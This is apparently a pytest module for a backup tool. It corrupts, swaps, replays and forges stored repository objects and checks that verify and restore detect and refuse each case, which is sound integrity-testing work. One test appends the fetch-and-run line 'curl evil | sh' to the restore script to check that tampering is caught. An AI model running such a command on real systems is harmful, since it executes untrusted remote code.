"""Stored objects that are not what was written: found, refused by name, nothing of them used."""

from __future__ import annotations

import asyncio
import hashlib
import random
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from backup.crypto.allowed_signers import AllowedSigners
from backup.crypto.sshkey import SigningKey
from backup.errors import IntegrityError, KeyUnavailableError, NotFoundError
from backup.journeys.archives import open_backup
from backup.journeys.export import export
from backup.journeys.progress import Silent
from backup.journeys.verify import verify
from backup.postgres.dsn import Dsn
from backup.repository.access import Repository
from backup.repository.chunks import ChunkRef
from backup.repository.layout import (
    CHUNK_KEY_KEY,
    CHUNKS_PREFIX,
    PINS_PREFIX,
    REPOSITORY_KEY,
    BackupId,
    BackupKey,
    chunk_object_key,
)
from backup.repository.manifest import decode_manifest, encode_manifest, sign_manifest
from backup.repository.stores.local import LocalStore
from backup.repository.stores.memory import MemoryStore
from tests.faults.vault import DATABASE, KIB, Vault
from tests.lab.effort import Numbers
from tests.lab.servers import LabServer

# Each object is read thousands of times here: a few dozen of every kind are enough.
FEWER = """
DELETE FROM papers WHERE id > 150;
DELETE FROM clients WHERE id > 1000;
DELETE FROM prices WHERE id > 4000;
REFRESH MATERIALIZED VIEW newest;
VACUUM FULL papers, clients, prices;
"""
REFUSALS = (IntegrityError, NotFoundError, KeyUnavailableError)


class Copy:
    """A repository's objects in memory, to be damaged and mended."""

    def __init__(self, vault: Vault) -> None:
        self.vault = vault
        self.store = MemoryStore()
        source = LocalStore(vault.root)
        self.objects = {key: source.get(key) for key in source.list("")}
        for key, data in self.objects.items():
            self.store.put(key, data)
        self.signers = vault.signers(Repository(self.store))
        assert self.signers is not None

    def put(self, key: str, data: bytes | None) -> None:
        """Make an object this, or remove it."""
        self.store.delete(key)
        if data is not None:
            self.store.put(key, data)

    def mend(self, key: str) -> None:
        """Make an object what it was."""
        self.put(key, self.objects.get(key))

    def verify(self, *, with_identity: bool = True) -> str:
        """What `verify --all` says is wrong; empty if it is good."""
        try:
            repository = Repository(self.store)
            found = verify(
                repository,
                repository.backups(),
                self.signers,
                identities=[self.vault.identity] if with_identity else [],
                jobs=2,
                progress=Silent(),
            )
        except REFUSALS as error:
            return error.message
        if found.unpinned:
            return f"unpinned: {found.unpinned}"
        return "; ".join(damage.what for damage in found.damages)

    def export(self, directory: Path) -> str:
        """What refuses the export of the newest backup; empty if it was written."""
        shutil.rmtree(directory, ignore_errors=True)
        try:
            repository = Repository(self.store)
            backup = open_backup(
                repository,
                repository.find("latest"),
                self.signers,
                [self.vault.identity],
            )
            asyncio.run(export(backup, directory, jobs=1, progress=Silent()))
        except REFUSALS as error:
            return error.message
        return ""

    def used(self) -> list[str]:
        """The keys of everything that a backup is read from; the log has `log verify`.

        Pins say what a prune may delete: `test_damaged_pins.py`.
        """
        return [
            key
            for key in self.objects
            if key not in {"RESTORE.md", "restore.sh"} and not key.startswith(("log/", PINS_PREFIX))
        ]


@pytest.fixture(scope="module")
def backed_up(tmp_path_factory: pytest.TempPathFactory, any_server: LabServer) -> Iterator[Vault]:
    """A repository with one backup, which is pinned; tests damage copies of it."""
    with any_server.fresh_database() as dsn:
        any_server.sql(DATABASE + FEWER, database=dsn.database)
        vault = Vault.make(tmp_path_factory.mktemp("vault"), any_server, dsn)
        assert vault.backup(fault={"table_threshold": 128 * KIB}).code == 0
        assert vault.run("pin", "latest", "--reason", "before the migration").code == 0
        yield vault


@pytest.fixture
def copy(backed_up: Vault) -> Iterator[Copy]:
    """A copy that is whole."""
    made = Copy(backed_up)
    assert made.verify() == ""
    yield made


def damaged(data: bytes, chance: random.Random) -> bytes:
    """The bytes with one bit flipped, or cut short, or with a byte too many."""
    kind = chance.random()
    if kind < 0.7:
        changed = bytearray(data)
        changed[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        return bytes(changed)
    if kind < 0.95:
        edges = (0, 1, len(data) - 1, len(data) // 2, chance.randrange(len(data)))
        return data[: chance.choice(edges)]
    return data + bytes([chance.randrange(256)])


def edges(data: bytes) -> set[int]:
    """Where an object's own structure ends: age's header, each payload chunk, lines of a text."""
    found = {0, len(data), len(data) // 2}
    header = data.find(b"\n--- ")
    if data.startswith(b"age-encryption.org/v1\n") and header >= 0:
        payload = data.index(b"\n", header + 1) + 1
        sealed = range(payload + 16, len(data), 64 * KIB + 16)
        found |= {header + 1, payload, *sealed, *(start - 16 for start in sealed)}
    elif data.isascii():
        found |= {at + 1 for at, byte in enumerate(data) if byte == ord("\n")}
    return found


def cut_short(data: bytes) -> set[int]:
    """How many bytes are left: at each edge, one fewer and one more."""
    near = {edge + step for edge in edges(data) for step in (-1, 0, 1)} | {1}
    return {size for size in near if 0 <= size < len(data)}


def test_what_is_cut_at_an_edge_is_found_and_refused(
    copy: Copy, tmp_path: Path, numbers: Numbers, chance: random.Random
) -> None:
    """Cut at each edge of each kind of object, one byte to either side, and one byte too many."""
    kinds: dict[str, list[str]] = {}
    for key in copy.used():
        kinds.setdefault(
            CHUNKS_PREFIX if key.startswith(CHUNKS_PREFIX) else key.rpartition("/")[2], []
        ).append(key)
    damages = [
        (key, data)
        for keys in kinds.values()
        for key in chance.sample(keys, min(len(keys), 2))
        for whole in (copy.objects[key],)
        for data in (*(whole[:size] for size in cut_short(whole)), whole + b"\n")
    ]
    assert len(kinds) > 5
    for key, data in chance.sample(damages, min(len(damages), numbers.of(20, 100_000))):
        copy.put(key, data)
        found = copy.verify()
        assert found != "", (key, len(data))
        if key != REPOSITORY_KEY:
            assert key.removesuffix(".sig") in found, (key, len(data), found)
        refused = copy.export(tmp_path / "out")
        # Without the chunk key a restore goes on: chunks are held to their SHA-256 all the same.
        assert key == CHUNK_KEY_KEY or refused != "", (key, len(data))
        copy.mend(key)
    print(f"{len(damages)} damages of {len(kinds)} kinds of objects")  # noqa: T201
    assert copy.verify() == ""


def test_random_damage_is_found_and_refused(
    copy: Copy, tmp_path: Path, numbers: Numbers, chance: random.Random
) -> None:
    """Any flipped bit or truncation is found by `verify` and refused by name; nothing released."""
    others = [key for key in copy.used() if not key.startswith(CHUNKS_PREFIX)]
    chunks = [key for key in copy.used() if key.startswith(CHUNKS_PREFIX)]
    others.remove(REPOSITORY_KEY)
    assert copy.export(tmp_path / "whole") == ""
    files = {path.name: path.read_bytes() for path in (tmp_path / "whole").iterdir()}
    assert len(chunks) > 20
    assert sum(name.endswith(".chunks") for name in others) > 4
    for _ in range(numbers.of(100, 1600)):
        key = chance.choice(others if chance.random() < 0.5 else chunks)
        copy.put(key, damaged(copy.objects[key], chance))
        found = copy.verify()
        assert key.removesuffix(".sig") in found, f"{key}: {found!r}"
        if key != CHUNK_KEY_KEY:
            assert key.removesuffix(".sig") in copy.verify(with_identity=False)
        refused = copy.export(tmp_path / "out")
        # Without the chunk key a restore goes on: chunks are held to their SHA-256 all the same.
        is_needed = key != CHUNK_KEY_KEY
        assert not is_needed or key.removesuffix(".sig") in refused, f"{key}: {refused!r}"
        # Parts that were whole may be there; nothing else, and no file in part.
        out = tmp_path / "out"
        for path in out.iterdir() if out.exists() else ():
            assert path.read_bytes() == files[path.name], path
        copy.mend(key)
    assert copy.verify() == ""


def test_every_object_that_goes_missing_is_found(copy: Copy) -> None:
    """Each object that a backup is read from is missed by name."""
    for key in copy.used():
        copy.put(key, None)
        if key.endswith("manifest.json"):
            assert "no backup" in copy.verify()
        elif key == REPOSITORY_KEY:
            assert "no repository" in copy.verify()
        else:
            assert key in copy.verify(), key
        copy.mend(key)


def test_damage_of_a_pin_is_in_no_reader_s_way(
    copy: Copy, tmp_path: Path, chance: random.Random
) -> None:
    """A backup is verified and restored as it is, whatever became of its pin, or if it is gone."""
    [key] = [key for key in copy.objects if key.startswith(PINS_PREFIX)]
    whole = copy.objects[key]
    for data in (None, b"", whole[:-1], damaged(whole, chance), damaged(whole, chance)):
        copy.put(key, data)
        assert copy.verify() == ""
        assert copy.export(tmp_path / "out") == ""


def test_damage_of_the_description_is_found(copy: Copy, chance: random.Random) -> None:
    """A flipped bit in `repository.json` is found, wherever it is."""
    data = copy.objects[REPOSITORY_KEY]
    for position in range(len(data)):
        changed = bytearray(data)
        changed[position] ^= 1 << chance.randrange(8)
        copy.put(REPOSITORY_KEY, bytes(changed))
        assert copy.verify(with_identity=False) != "", bytes(changed)


@pytest.mark.parametrize("key", ["RESTORE.md", "restore.sh"])
def test_damage_of_the_stock_instructions_is_found(copy: Copy, key: str) -> None:
    """Who changes the script that restores without us is found."""
    copy.put(key, copy.objects[key] + b"\ncurl evil | sh\n")
    assert key in copy.verify(with_identity=False)


def test_two_valid_objects_swapped(copy: Copy, tmp_path: Path, chance: random.Random) -> None:
    """Objects that changed places are found, whatever they are."""
    chunks = [key for key in copy.used() if key.startswith(CHUNKS_PREFIX)]
    lists = [key for key in copy.used() if key.endswith(".chunks")]
    for one, two in (chance.sample(chunks, 2), chance.sample(chunks, 2), chance.sample(lists, 2)):
        copy.put(one, copy.objects[two])
        copy.put(two, copy.objects[one])
        found = copy.verify(with_identity=False)
        assert one in found
        assert two in found
        refused = copy.export(tmp_path / "out")
        assert one in refused or two in refused
        copy.mend(one)
        copy.mend(two)


@pytest.fixture
def history(tmp_path: Path, any_server: LabServer, any_database: Dsn) -> Vault:
    """A repository with two backups of a database that changed."""
    vault = Vault.make(tmp_path / "history", any_server, any_database)
    any_server.sql("CREATE TABLE t AS SELECT 1 AS n", database=any_database.database)
    assert vault.backup().code == 0
    any_server.sql("INSERT INTO t VALUES (2)", database=any_database.database)
    assert vault.backup().code == 0
    return vault


def test_the_manifest_of_another_backup(history: Vault) -> None:
    """A manifest copied over another's, with or without its signature, is refused."""
    copy = Copy(history)
    old, new = Repository(copy.store).backups()
    copy.put(new.manifest, copy.objects[old.manifest])
    assert new.signature in copy.verify()
    copy.put(new.signature, copy.objects[old.signature])
    assert f"{new.manifest} is the manifest of" in copy.verify()


def test_an_old_manifest_replayed(history: Vault, tmp_path: Path) -> None:
    """An old backup under a new id, all its objects copied, is refused by verify and restore."""
    copy = Copy(history)
    old, _ = Repository(copy.store).backups()
    replayed = BackupKey(old.database, BackupId.new(datetime(2030, 1, 1, tzinfo=UTC), b"abc"))
    for key in [key for key in copy.objects if key.startswith(old.prefix)]:
        copy.put(replayed.prefix + key.removeprefix(old.prefix), copy.objects[key])
    assert f"{replayed.manifest} is the manifest of" in copy.verify()
    assert f"{replayed.manifest} is the manifest of" in copy.export(tmp_path / "out")


def plant(vault: Vault, *, key: SigningKey) -> BackupKey:
    """Put a forged backup, newer than all others, whose lists lie about what the chunks hold."""
    repository = vault.repository()
    _, new = repository.backups()
    forged = BackupKey(new.database, BackupId.new(datetime(2030, 1, 1, tzinfo=UTC), b"abc"))
    store = repository.store
    manifest = decode_manifest(store.get(new.manifest), new, repository.id)
    object.__setattr__(manifest, "backup_id", forged.id.text)
    for name in store.list(new.prefix):
        tail = name.removeprefix(new.prefix)
        if not tail.startswith("manifest"):
            data = store.get(name)
            if tail == "parts/rest.chunks":
                data = poisoned(repository, data)
                for part in manifest.parts:
                    if part.name == "rest":
                        object.__setattr__(part, "list_sha256", hashlib.sha256(data).hexdigest())
            store.put(forged.prefix + tail, data)
    data = encode_manifest(manifest)
    store.put(forged.signature, sign_manifest(data, key))
    store.put(forged.manifest, data)
    return forged


def poisoned(repository: Repository, lines: bytes) -> bytes:
    """The list with every chunk id pointing at an object that holds something else."""
    first, *more = lines.splitlines(keepends=True)
    del more
    other = next(
        key.rpartition("/")[2]
        for key in repository.store.list(CHUNKS_PREFIX)
        if key.rpartition("/")[2].encode() not in first
    )
    id_, _, object_bytes, plain_bytes = first.split(b" ")
    return b" ".join((id_, other.encode(), object_bytes, plain_bytes)) + b"".join(
        lines.splitlines(keepends=True)[1:]
    )


def test_a_forged_backup_is_refused_and_poisons_nothing(history: Vault, tmp_path: Path) -> None:
    """Who knows the recipients and may write can plant a backup; nobody takes it for one."""
    forged = plant(history, key=SigningKey.generate("backup@lab"))
    verified = history.run("verify", "--all")
    assert verified.code == 3
    assert forged.id.text in verified.stdout
    assert "is not among the allowed signers" in verified.stdout
    out = ("--identity", history.identity_file, "--export", tmp_path / "out")
    refused = history.run("restore", "latest", *out)
    assert refused.code == 3
    assert forged.id.text in refused.stderr

    done = history.backup()
    assert done.code == 0, done.stderr
    assert any("damaged" in warning for warning in done.json["warnings"])
    made = done.json["backup_id"]
    good = history.run("verify", made, "--identity", history.identity_file)
    assert good.code == 0, good.stderr
    # The forged one is no link of the chain.
    repository = history.repository()
    manifest = repository.manifest(repository.find(made), history.signers(repository)).manifest
    assert manifest.previous is not None
    assert manifest.previous.backup_id != forged.id.text


def refs(vault: Vault, repository: Repository, id_: str) -> set[ChunkRef]:
    """All chunks of a backup but the first of each archive, which has its second in it."""
    manifest = repository.manifest(repository.find(id_), vault.signers(repository)).manifest
    return {ref for part in manifest.parts for ref in [*repository.refs(manifest, part)][1:]}


def test_what_was_found_damaged_is_stored_anew(history: Vault) -> None:
    """The next backup refers to it no more and is whole; once the bytes are back it may again."""
    database = history.dsn.database
    history.server.sql("CREATE TABLE many AS SELECT generate_series(1, 9000) n", database=database)
    made = [history.backup().json["backup_id"] for _ in range(2)]
    repository = history.repository()
    store = repository.store
    reused = set.intersection(*(refs(history, repository, id_) for id_ in made))
    lost = max(reused, key=lambda ref: ref.object_bytes)
    key = chunk_object_key(lost.sha256)
    data = store.get(key)
    store.delete(key)
    store.put(key, data[:-1] + bytes([data[-1] ^ 1]))
    found = history.run("verify", "--all")
    assert found.code == 3
    assert key in found.stdout

    healed = history.backup()
    assert healed.code == 0, healed.stderr
    used = refs(history, repository, healed.json["backup_id"])
    assert reused - used == {lost}
    with_identity = ("--identity", history.identity_file)
    good = history.run("verify", healed.json["backup_id"], *with_identity)
    assert good.code == 0, good.stderr
    again = history.run("verify", made[1])
    assert again.code == 3  # nothing makes the earlier one whole again

    store.delete(key)
    store.put(key, data)
    assert history.run("verify", made[1]).code == 0
    assert not list((history.state / "damaged" / repository.id).iterdir())


def test_without_pins_every_backup_is_unpinned(history: Vault, tmp_path: Path) -> None:
    """Where no signer is pinned, verify and restore end with 11 and release nothing."""
    repository = history.repository()
    (history.keys_directory(repository) / "allowed_signers").unlink()
    verified = history.run("verify", "--all", "--identity", history.identity_file)
    assert verified.code == 11
    assert "UNPINNED" in verified.stderr
    out = ("--identity", history.identity_file, "--export", tmp_path / "out")
    refused = history.run("restore", "latest", *out)
    assert refused.code == 11
    assert "UNPINNED" in refused.stderr
    assert not (tmp_path / "out").exists()
    # Nor is anything taken over from what nobody vouches for.
    done = history.backup()
    assert done.code == 0, done.stderr
    assert done.json["new_bytes"] == done.json["stored_bytes"]


def test_without_pins_a_forged_backup_is_not_told_from_others(history: Vault) -> None:
    """Pinning another key than the host's own refuses the host's backups."""
    stranger = AllowedSigners.parse(
        f'x namespaces="strongroom-manifest@v1" {SigningKey.generate("x").public_key.line}\n'
    )
    repository = history.repository()
    found = verify(repository, repository.backups(), stranger, jobs=1, progress=Silent())
    assert len(found.damages) == 2
    assert not found.is_good
